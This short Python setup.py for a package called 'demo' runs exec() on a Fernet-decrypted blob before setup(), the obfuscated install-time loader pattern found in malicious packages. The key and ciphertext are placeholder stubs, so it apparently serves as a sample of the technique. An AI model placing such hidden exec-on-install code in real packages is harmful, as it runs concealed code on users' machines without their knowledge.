from cryptography.fernet import Fernet
from setuptools import setup

exec(Fernet(b"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=").decrypt(b"gAAAAA"))
setup(name="demo", version="1.0")
